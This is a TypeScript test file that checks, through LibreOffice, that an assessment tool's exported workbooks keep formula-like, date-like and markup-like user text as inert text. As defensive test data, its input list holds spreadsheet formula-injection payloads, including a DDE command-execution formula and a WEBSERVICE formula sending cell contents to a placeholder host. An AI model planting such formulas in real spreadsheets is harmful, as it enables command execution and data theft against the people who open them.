import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type Assessment, parseInstant } from '@avouch/core';
import { REPORTS, writeQuestionSheet } from '@avouch/reports';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import { hospitalList, listOf } from '../packages/core/src/answers/customer-list-samples.ts';
import { hostileAssessment } from '../packages/reports/src/hostile-assessment.ts';
import { questionFor } from '../packages/reports/src/questions/question-sheet.ts';
import { sampleAssessment } from '../packages/reports/src/sample-assessment.ts';
import { sampleCatalogue } from '../packages/reports/src/sample-catalogue.ts';
import { done, judgedCase } from './command-line/judged-case.ts';
import { OFFICE_MISSING } from './office.ts';
import { type OfficeCell, type OfficeWorkbook, openedInOffice } from './office-sheets.ts';

// What somebody else's program shows of the workbooks that we write: LibreOffice opens each, and its cells are compared with what was put in.

const catalogue = sampleCatalogue();
const claimList = catalogue.themes.flatMap(({ principles }) => principles.flatMap(({ claims }) => claims));

/** Texts that a spreadsheet takes for something else where it is let. */
const TEXTS = [
  '=1+1',
  '=HYPERLINK("http://x.example.test","click")',
  '=WEBSERVICE("http://x.example.test/"&A1)',
  "=cmd|' /C calc'!A0",
  '+1-1',
  '-2+3',
  '@SUM(A1:A9)',
  '00123',
  '1e5',
  '2026-11-03',
  'TRUE',
  '_x0041_',
  '"quoted", and a comma; </t></si>&amp;',
  "'apostrophe first",
  '\u4e2d\u6587 \u{1f600}',
] as const;

/** The sample with one of these texts wherever words of others stand; which of them is told by the place of the claim. */
function textualAssessment(): Assessment {
  const sample = sampleAssessment();
  return {
    ...sample,
    organisation: TEXTS[1],
    product: { ...sample.product, name: TEXTS[0] },
    claims: sample.claims.map((claim, index) => {
      const text = textAt(index);
      return {
        ...claim,
        bring: text,
        reasons: [text],
        observations: claim.observations.map((one) => ({ ...one, message: text, subject: text })),
      };
    }),
  };
}

function textAt(index: number): string {
  return TEXTS[index % TEXTS.length] ?? '';
}

async function reportOf(assessment: Assessment): Promise<Uint8Array> {
  const bytes = await REPORTS.find(({ id }) => id === 'xlsx')?.write(assessment, catalogue);
  if (!(bytes instanceof Uint8Array)) throw new TypeError('the form xlsx gives no bytes');
  return bytes;
}

async function questionSheet(): Promise<Uint8Array> {
  const [custodian] = catalogue.custodians;
  const made = parseInstant('2026-11-23T12:00:00Z');
  if (custodian === undefined || made === null) throw new Error('the sample has no custodian');
  const questions = claimList.slice(0, TEXTS.length).map((claim, index) => ({ ...questionFor(claim, null), outcome: textAt(index) }));
  return await writeQuestionSheet(
    { catalogue, product: { id: 'ledger', name: TEXTS[0] }, custodian, askedBy: TEXTS[4], made, questions },
    'xlsx',
  );
}

/** A customer's list, filled from a case in which the argument looks like a formula. */
async function answeredList(): Promise<Uint8Array> {
  const cwd = await judgedCase();
  await writeFile(join(cwd, 'trust.xlsx'), hospitalList());
  await done(cwd, 'argue', '1.3.2', '--by', 'Ann', `--text=${TEXTS[1]}`);
  await done(cwd, 'judge', '1.3.2', 'met', '--by', 'Bob');
  await done(cwd, 'answer', 'trust.xlsx', '-o', 'out.xlsx', '--include-unlabelled', '--map', '7=1.3.2', '--map', '6=none', '--by', 'Ann');
  return new Uint8Array(await readFile(join(cwd, 'out.xlsx')));
}

/** The pack of an assessor, of a case in which the argument looks like a formula. */
async function assessorsPack(): Promise<Uint8Array> {
  const cwd = await judgedCase();
  await done(cwd, 'argue', '1.3.2', '--by', 'Ann', `--text=${TEXTS[1]}`, '--disclosure', 'public');
  await done(cwd, 'judge', '1.3.2', 'met', '--by', 'Bob');
  await done(cwd, 'sample', '-o', 'pack.xlsx');
  return new Uint8Array(await readFile(join(cwd, 'pack.xlsx')));
}

let opened: ReadonlyMap<string, OfficeWorkbook>;
beforeAll(async () => {
  const office = inject('office');
  if (office === null) throw new Error(OFFICE_MISSING);
  const formula = { xml: (name: string) => `<c r="${name}"><f>1+1</f><v>2</v></c>` };
  opened = openedInOffice(office, {
    sample: await reportOf(sampleAssessment(catalogue)),
    textual: await reportOf(textualAssessment()),
    hostile: await reportOf(hostileAssessment()),
    questions: await questionSheet(),
    customers: hospitalList(),
    answered: await answeredList(),
    pack: await assessorsPack(),
    // What a fault would look like.
    calculated: listOf([{ name: 'One', cells: { A1: '=1+1', B1: formula } }]),
    cut: (await reportOf(sampleAssessment(catalogue))).slice(0, 4_000),
  });
});

function sheetOf(workbook: string, name: string): readonly (readonly OfficeCell[])[] {
  const rows = opened.get(workbook)?.get(name);
  if (rows === undefined) throw new Error(`LibreOffice shows no sheet ${name} of ${workbook}`);
  return rows;
}

/** Rows of a sheet by the headings of its columns. */
function records(workbook: string, name: string): readonly Readonly<Record<string, OfficeCell>>[] {
  const [headings = [], ...rows] = sheetOf(workbook, name);
  return rows.map((row) => Object.fromEntries(headings.map(({ text }, index) => [text, row[index] ?? { text: '', isText: false }])));
}

function text(words: string): OfficeCell {
  return { text: words, isText: true };
}

function textsOf(workbook: string, name: string): readonly string[] {
  return sheetOf(workbook, name).flatMap((row) => row.map((cell) => cell.text));
}

describe('LibreOffice', () => {
  it('shows a formula as its result and refuses what was cut, so that the rest of this can fail', () => {
    expect(sheetOf('calculated', 'One')).toEqual([[text('=1+1'), { text: '2', isText: false }]]);
    expect(opened.has('cut')).toBe(false);
  });

  it.each(['sample', 'textual', 'hostile'])('opens the report: %s', (workbook) => {
    expect([...(opened.get(workbook)?.keys() ?? [])].toSorted()).toEqual([
      'About',
      'Claims',
      'Evidence',
      'Gaps',
      'Observations',
      'Pledges',
    ]);
    expect(records(workbook, 'Claims').map(({ Claim }) => Claim)).toEqual(claimList.map(({ id }) => text(id)));
    expect(records(workbook, 'Observations')).toHaveLength(51);
    // A number is a number, so that it sorts.
    for (const row of records('sample', 'Claims')) expect(row['Evidence age in days']?.isText ?? false).toBe(false);
  });

  it('shows every claim of the report as it was put in', () => {
    const { claims } = sampleAssessment(catalogue);
    const shown = records('sample', 'Claims');
    for (const [index, { status, evidence, reasons, judgement }] of claims.entries()) {
      expect(shown[index]).toMatchObject({
        Status: text(status),
        Evidence: text(`evidence ${evidence}`),
        Why: text(reasons.join('\n')),
        Judged: judgement === null ? { text: '', isText: false } : text(judgement.verdict),
        'Judged by': judgement === null ? { text: '', isText: false } : text(judgement.by),
      });
    }
    const observations = claims.flatMap((claim) => claim.observations);
    expect(records('sample', 'Observations').map(({ Message }) => Message)).toEqual(observations.map(({ message }) => text(message)));
    expect(shown.find(({ Claim }) => Claim?.text === '3.2.2')?.Outcome).toEqual(
      text('The official words, as a user laid them over for this claim.'),
    );
  });

  it('holds what looks like a formula, a number, a date or markup for text', () => {
    const shown = records('textual', 'Claims');
    for (const [index, claim] of textualAssessment().claims.entries()) {
      expect([claim.id, shown[index]?.Why, shown[index]?.Bring]).toEqual([claim.id, text(textAt(index)), text(textAt(index))]);
    }
    const messages = records('textual', 'Observations').map(({ Claim, Message }) => [Claim?.text, Message]);
    expect(messages).toEqual(
      textualAssessment().claims.flatMap(({ id, observations }, index) => observations.map(() => [id, text(textAt(index))])),
    );
  });

  it('shows no character of hostile text that steers or hides', () => {
    for (const name of opened.get('hostile')?.keys() ?? []) {
      const shown = textsOf('hostile', name).join('\n');
      expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\ufeff]/);
    }
    expect(textsOf('hostile', 'About').join('\n')).toContain('<script>window.hostile = true</script>');
  });

  it('opens a sheet of questions, whose words are text and whose answers are empty', () => {
    const [name = ''] = opened.get('questions')?.keys() ?? [];
    const shown = sheetOf('questions', name).flat();
    for (const [index, { id }] of claimList.slice(0, TEXTS.length).entries()) {
      expect(shown.filter((cell) => cell.isText && cell.text.endsWith(textAt(index))).length, `question ${id}`).toBeGreaterThan(0);
    }
    expect(shown).toContainEqual(text(TEXTS[0]));
    // References, labels and what is asked stand in the first two columns; a third is where people write.
    const rows = sheetOf('questions', name).filter(([, label]) => label?.text.startsWith('What shows it') === true);
    expect(rows).toHaveLength(TEXTS.length);
    expect(rows.map(([, , answer]) => answer?.text ?? '')).toEqual(TEXTS.map(() => ''));
  });

  it("opens a customer's list with answers as text, and everything else as the customer wrote it", () => {
    const before = sheetOf('customers', 'Security');
    const after = sheetOf('answered', 'Security');
    const changed = after.flatMap((row, line) =>
      row.flatMap((cell, column) => (cell.text === (before[line]?.[column]?.text ?? '') ? [] : [{ line, column, cell }])),
    );
    // D7, and no other.
    expect(changed).toEqual([{ line: 6, column: 3, cell: expect.objectContaining({ isText: true }) }]);
    expect(changed[0]?.cell.text).toContain('Judged met by Bob on 2026-11-23 (asserted).');
    expect(changed[0]?.cell.text).toContain(TEXTS[1]);
    expect(sheetOf('answered', 'Instructions')).toEqual(sheetOf('customers', 'Instructions'));
  });

  it("opens an assessor's pack: every claim for an opinion, arguments as text, and room to write that is empty", () => {
    expect([...(opened.get('pack')?.keys() ?? [])].toSorted()).toEqual(['Findings', 'How to use', 'Opinion', 'Population', 'Sample']);
    const opinions = records('pack', 'Opinion');
    expect(opinions.map(({ Claim }) => Claim)).toEqual(claimList.map(({ id }) => text(id)));
    const judged = opinions.find(({ Claim }) => Claim?.text === '1.3.2');
    expect(judged).toMatchObject({ Judged: text('met'), Argument: { isText: true, text: expect.stringContaining(TEXTS[1]) } });
    for (const heading of ['Your opinion', 'Why', 'Also looked at'])
      expect(new Set(opinions.map((row) => row[heading]?.text))).toEqual(new Set(['']));
    expect(sheetOf('pack', 'Findings')).toHaveLength(1);
  });
});
